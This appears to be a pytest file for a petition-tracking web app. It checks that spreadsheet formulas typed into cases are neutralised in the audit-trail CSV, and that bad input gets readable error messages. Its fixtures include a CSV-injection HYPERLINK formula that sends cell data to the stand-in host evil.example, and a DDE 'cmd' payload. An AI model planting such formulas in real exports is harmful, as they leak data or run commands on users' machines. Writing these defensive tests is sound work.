"""Hostile or careless input gets a readable answer, never a 500 (issue 10, defects 2 and 3).

Formulas typed into a case come out of the trail CSV as text; a lone surrogate, an
unreadable form version and days at the ends of the calendar are refused (or, for a
range's bound, read as no bound) with a message the user can read.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from uuid import UUID

import httpx
import pytest

from tests.story import COUPLE, hire, register
from tests.web import api_session, served, signed_in
from tracker.application import Tracker
from tracker.clock import FixedClock
from tracker.errors import PermissionDenied, WrongStage
from tracker.permissions import Action
from tracker.settings import Settings
from tracker.spreadsheet_safety import FORMULA_STARTS, as_text_cell
from web import i18n

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
COMMAND = "+cmd|'/c calc'!A0"
JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
HTMX = {"HX-Request": "true"}


@dataclass(frozen=True)
class Site:
    base: str
    petition: UUID  # xinmin: registered 02-20 with a formula for summary, accepted, corrected


@pytest.fixture
def site(store: Settings) -> Iterator[Site]:
    clock = FixedClock.on(date(2026, 3, 2))
    seeded = Tracker(store, clock=clock)
    hire(seeded)
    li = seeded.accounts.principal("li")
    petition = register(seeded, "li", date(2026, 2, 20), summary=HYPERLINK)
    seeded.petitions.accept(li, petition, date(2026, 3, 2))
    seeded.petitions.correct(li, petition, COMMAND, {"summary": "-3000"})
    seeded.petitions.add_note(li, petition, "@SUM(1+1)")
    seeded.petitions.correct(li, petition, "\t=1+1", {"category": "\r=2+2"})
    seeded.close()
    with served(store, clock) as base:
        yield Site(base, petition)


# -- defect 2: formulas in the trail CSV -------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        (COMMAND, "'" + COMMAND),
        ("-3000", "'-3000"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("王秀英", "王秀英"),
        ("3000", "3000"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),  # already text
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed: str, written: str) -> None:
    assert as_text_cell(typed) == written


def test_the_trail_csv_writes_typed_formulas_as_text_and_reads_as_utf8(site: Site) -> None:
    with signed_in(site.base, "zhou") as zhou:
        answer = zhou.get(f"/audit/petitions/{site.petition}/trail.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets read UTF-8
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    registered = next(r for r in rows if r["event"] == "Registered" and r["field"] == "summary")
    first, second = (r for r in rows if r["event"] == "Corrected")
    note = next(r for r in rows if r["event"] == "NoteAdded")
    assert registered["after"] == "'" + HYPERLINK
    assert (first["reason"], first["before"], first["after"]) == (
        "'" + COMMAND,
        "'" + HYPERLINK,
        "'-3000",
    )
    assert note["after"] == '["@SUM(1+1)"]'  # a list's JSON starts with "[": nothing to run
    # A leading tab or CR: kept and neutralised, or trimmed as the text came in and neutralised.
    assert second["reason"] in ("'\t=1+1", "'=1+1")
    assert second["after"] in ("'\r=2+2", "'=2+2")
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# -- defect 3: answers instead of 500s ---------------------------------------------------


def test_a_lone_surrogate_sent_to_the_api_is_refused_as_readable_json(site: Site) -> None:
    opening = (
        '{"people": [{"name": "王\\ud800"}], "fields": {"community": "xinmin", '
        '"existing_children": 1, "policy_ground": "universal-two", "applied_on": "2026-03-02"}}'
    )
    command = '{"expected_version": 2, "accepted_on": "\\ud800"}'
    credentials = '{"username": "li\\ud800", "password": "long-enough-pw"}'
    with api_session(site.base, "li") as li:
        opened = li.post("/cases/approval", content=opening.encode(), headers=JSON)
        commanded = li.post(
            f"/cases/petition/{site.petition}/accept", content=command.encode(), headers=JSON
        )
    signing_in = httpx.post(f"{site.base}/api/session", content=credentials.encode(), headers=JSON)
    for answer, field in ((opened, "name"), (commanded, "accepted_on"), (signing_in, "username")):
        assert answer.status_code == 422, answer.text
        body = answer.json()
        assert body["error"] == "RequestValidationError"
        assert body["message"] == f"以下内容无效：{field}"
        assert body["field"] == field
        assert all("input" not in error for error in body["detail"])  # never echoed back


def test_a_surrogate_in_a_posted_form_is_refused_readably(site: Site) -> None:
    with signed_in(site.base, "li") as li:
        answer = li.post(
            f"/petitions/{site.petition}/reply",
            content=b"expected_version=5&replied_on=%ED%A0%80&outcome=explained&text=%ED%A0%80",
            headers={**FORM, **HTMX},
        )
    assert answer.status_code == 422
    assert "请输入日期。" in answer.text  # beside the date field: a surrogate reads as U+FFFD


@pytest.mark.parametrize(
    "version",
    ["²", "٣", "9" * 5000, "", "-1", "1.0"],
    ids=["superscript-two", "arabic-indic-three", "5000-digits", "empty", "negative", "decimal"],
)
def test_an_unreadable_form_version_is_refused_readably(site: Site, version: str) -> None:
    url = f"/petitions/{site.petition}/add_note"
    data = {"expected_version": version, "text": "已电话联系"}
    with signed_in(site.base, "li") as li:
        plain = li.post(url, data=data)
        fragment = li.post(url, data=data, headers=HTMX)
        after = li.get(f"/api/cases/petition/{site.petition}").json()["case"]["version"]
    for answer in (plain, fragment):
        assert answer.status_code == 422
        assert "表单不完整，请刷新页面后重试。" in answer.text
    assert after == 5  # nothing written


def test_a_day_after_today_is_refused_on_a_case_and_its_reports(site: Site) -> None:
    case = f"/cases/petition/{site.petition}"
    with api_session(site.base, "li") as li:
        last_day = li.get(case, params={"as_of": "9999-12-31"})
        tomorrow = li.get(case, params={"as_of": "2026-03-03"})
        today = li.get(case, params={"as_of": "2026-03-02"})
        report = li.get("/reports/petitions", params={"as_of": "9999-12-31"})
    with signed_in(site.base, "li") as li:
        page = li.get(f"/petitions/{site.petition}", params={"as_of": "9999-12-31"})
        reports = li.get("/reports", params={"as_of": "9999-12-31"})
    for answer in (last_day, report):
        assert answer.status_code == 422
        assert answer.json() == {
            "error": "FutureDate",
            "message": "as_of（9999-12-31）晚于今天",
            "field": "as_of",
        }
    assert tomorrow.status_code == 422
    assert tomorrow.json()["message"] == "as_of（2026-03-03）晚于今天"
    assert today.status_code == 200
    for answer in (page, reports):
        assert answer.status_code == 422
        assert "（9999-12-31）晚于今天" in answer.text


@pytest.mark.parametrize(
    "edge",
    [
        {"recorded_to": "9999-12-31"},
        {"recorded_from": "0001-01-01"},
        {"recorded_from": "0001-01-01", "recorded_to": "9999-12-31"},
    ],
)
def test_a_feed_range_at_the_ends_of_the_calendar_bounds_nothing(
    site: Site, edge: dict[str, str]
) -> None:
    with api_session(site.base, "zhou") as zhou:
        everything = zhou.get("/audit").json()
        bounded = zhou.get("/audit", params=edge)
    with signed_in(site.base, "zhou") as zhou:
        page = zhou.get("/audit/feed", params=edge)
    assert bounded.status_code == 200
    assert bounded.json() == everything
    assert page.status_code == 200
    assert "已登记" in page.text


# -- found by the fuzz tests (tests/test_fuzz_forms.py) ----------------------------------


@pytest.mark.parametrize(("version", "status"), [("5", 422), ("1", 409)])
def test_a_refused_command_no_longer_offered_still_says_why(
    site: Site, version: str, status: int
) -> None:
    """The petition is accepted: a plain post of "accept" (again, or from a page read before)
    gets the page back without the accept form, and the refusal above the forms."""
    url = f"/petitions/{site.petition}/accept"
    with signed_in(site.base, "li") as li:
        answer = li.post(url, data={"expected_version": version, "accepted_on": "2026-03-02"})
    assert answer.status_code == status
    assert '<form id="form-accept"' not in answer.text
    assert '<div class="error" role="alert">' in answer.text
    assert "<strong>受理</strong>" in answer.text
    expected = "不能受理" if status == 422 else "案件已被他人修改，请刷新后重试"
    assert expected in answer.text


def test_a_refusal_names_the_action_in_the_users_language(site: Site) -> None:
    """Actions of the role table and commands without a form of their own read translated."""
    with api_session(site.base, "wang") as wang:
        answer = wang.post(
            f"/cases/petition/{site.petition}/add_note",
            json={"expected_version": 5, "text": "已电话联系"},
        )
    assert answer.status_code == 403
    assert answer.json()["message"] == "wang 无权执行此操作（办理信访件）"
    for action in Action:
        message = i18n.error_message(PermissionDenied(user="wang", action=action.value), "zh_CN")
        assert not re.search(r"[A-Za-z]", message.removeprefix("wang")), message
    early = WrongStage(action="resolve_objection", stage="applied")
    assert i18n.error_message(early, "zh_CN") == "案件处于“已申请”环节，不能处理异议"


def test_a_refused_value_says_what_is_wanted_in_the_users_language(site: Site) -> None:
    """A refusal's problem naming a value (a range, a name) is translated, the value filled in."""
    spouses = [{"name": p.name, "id_number": str(p.id_number)} for p in COUPLE]
    opening = {
        "people": spouses,
        "fields": {
            "community": "xinmin",
            "existing_children": 30,
            "policy_ground": "universal-two",
            "applied_on": "2026-03-02",
        },
    }
    with api_session(site.base, "li") as li:
        children = li.post("/cases/approval", json=opening)
        nobody = li.post(
            f"/cases/petition/{site.petition}/assign",
            json={"expected_version": 5, "assignee": "nobody\x07"},
        )
        no_year = li.get("/reports/petitions", params={"period": "0000"})
    assert children.status_code == 422
    assert children.json()["message"] == "existing_children 无效：应为 0 至 20 之间的整数"
    assert nobody.status_code == 422
    assert nobody.json() == {
        "error": "InvalidValue",
        "message": "assignee 无效：没有账号 'nobody\\x07'",
        "field": "assignee",
    }
    assert no_year.json()["message"] == "period 无效：没有这个期间"
